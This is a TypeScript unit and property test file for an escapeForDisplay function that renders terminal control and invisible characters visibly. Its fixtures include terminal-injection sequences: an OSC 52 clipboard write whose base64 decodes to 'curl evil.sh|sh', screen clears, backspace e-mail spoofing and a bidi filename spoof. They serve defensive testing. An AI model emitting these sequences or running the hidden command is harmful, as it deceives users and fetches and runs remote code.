import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeForDisplay, escapeJsonForDisplay } from '../../src/escapeForDisplay';

/** Any character a terminal would act on or hide: controls, DEL, C1, format (bidi, zero-width), separators. */
export const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

describe('escapeForDisplay', () => {
  it.each([
    ['OSC 52 (writes the clipboard)', 'x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07y', 'x\\e]52;c;Y3VybCBldmlsLnNofHNo\\ay'],
    ['CSI (clears the screen)', '\x1b[2J\x1b[H', '\\e[2J\\e[H'],
    ['C1 CSI and OSC', '\u009b2J\u009d0;t\u009c', '\\x9B2J\\x9D0;t\\x9C'],
    ['backspaces over an e-mail', 'boss@evil.fr\b\b\b\b\b\b\bgal-drome.fr', 'boss@evil.fr\\b\\b\\b\\b\\b\\b\\bgal-drome.fr'],
    ['bidi override and isolates', 'abc\u202Efr.exe\u2066\u2069\u200E', 'abc\\u202Efr.exe\\u2066\\u2069\\u200E'],
    ['zero-width and soft hyphen', 'a\u200Bb\u200Dc\u00ADd\uFEFFe\u2060f', 'a\\u200Bb\\u200Dc\\u00ADd\\uFEFFe\\u2060f'],
    ['DEL, NUL, BEL, tab, CR, LF', 'a\x7f\0\x07\t\r\n', 'a\\x7F\\0\\a\\t\\r\\n'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['tag characters (astral format)', 'a\u{E0041}b', 'a\\u{E0041}b'],
    ['invisible Hangul filler', 'a\u3164b', 'a\\u3164b'],
  ])('shows %s visibly', (_what, input, shown) => {
    expect(escapeForDisplay(input)).toBe(shown);
    expect(escapeForDisplay(input)).not.toMatch(RAW_CONTROL);
  });

  it('leaves printable text as it is: accents, apostrophes, emoji, CJK, backslashes', () => {
    for (const text of ["Jean-Édouard d'Artois", 'Véronique ’ Bernard', 'œuvre ß 😀 東京', 'C:\\data\\e', '04 72 72 49 76']) {
      expect(escapeForDisplay(text)).toBe(text);
    }
  });

  it('never lets a raw control through, and is idempotent, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const once = escapeForDisplay(text);
        expect(once).not.toMatch(RAW_CONTROL);
        expect(escapeForDisplay(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  it('with keepLines, lets through only LF, tab and CRLF, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const out = escapeForDisplay(text, { keepLines: true, keepColours: true });
        expect(out.replace(/\r\n|\n|\t/g, '').replace(/\x1b\[[0-9;]*m/g, '')).not.toMatch(RAW_CONTROL);
        expect(escapeForDisplay(out, { keepLines: true, keepColours: true })).toBe(out);
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps line breaks and tabs of a whole text when asked, but not a lone CR', () => {
    expect(escapeForDisplay('a\tb\nc\r\nd\re', { keepLines: true })).toBe('a\tb\nc\r\nd\\re');
  });

  it('keeps our own colours when asked, and only those', () => {
    const painted = '\x1b[31mRefused\x1b[39m \x1b[2mdim\x1b[22m';
    expect(escapeForDisplay(painted, { keepColours: true })).toBe(painted);
    expect(escapeForDisplay(painted)).toBe('\\e[31mRefused\\e[39m \\e[2mdim\\e[22m');
    // Conceal, blink, reverse, cursor moves, screen clears, OSC: shown, even among colours.
    expect(escapeForDisplay('\x1b[8m\x1b[5m\x1b[7m\x1b[2J\x1b[1A\x1b]52;c;eA==\x07', { keepColours: true, keepLines: true })).toBe('\\e[8m\\e[5m\\e[7m\\e[2J\\e[1A\\e]52;c;eA==\\a');
  });
});

describe('escapeJsonForDisplay', () => {
  it('leaves no raw control in a JSON text, and the JSON reads back exactly', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
        const doc = { value, text, list: [text, text] };
        const json = escapeJsonForDisplay(JSON.stringify(doc, null, 2));
        expect(json.replace(/\n/g, '')).not.toMatch(RAW_CONTROL);
        expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(doc)));
      }),
      { numRuns: 500 },
    );
  });

  it('uses JSON escapes for what JSON.stringify leaves raw', () => {
    expect(escapeJsonForDisplay(JSON.stringify('a\u009b\u202e\u200b\x7f\u2028'))).toBe('"a\\u009B\\u202E\\u200B\\u007F\\u2028"');
  });
});

describe('the quick check for text that needs no escaping', () => {
  // Every character that must never reach a display raw, as the full patterns say it (\p classes).
  const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\u115f\u1160\u3164\uffa0\u2800]/u;
  it('lets no character through that the full patterns would escape, in every place of the Basic Multilingual Plane', () => {
    const wrong: string[] = [];
    for (let code = 0; code <= 0xffff; code += 1) {
      const c = String.fromCharCode(code);
      const unsafe = UNSAFE.test(c);
      const lineOrTab = c === '\n' || c === '\t';
      // Within safe letters: a text holding it, not only the character alone.
      const text = `é${c}’a`;
      if ((escapeForDisplay(text) === text) === unsafe) wrong.push(`U+${code.toString(16)}`);
      if ((escapeForDisplay(text, { keepLines: true }) === text) !== (!unsafe || lineOrTab)) wrong.push(`U+${code.toString(16)} keepLines`);
      if ((escapeJsonForDisplay(text) === text) !== (!unsafe || lineOrTab || c === '\r')) wrong.push(`U+${code.toString(16)} JSON`);
    }
    expect(wrong).toEqual([]);
  });
});
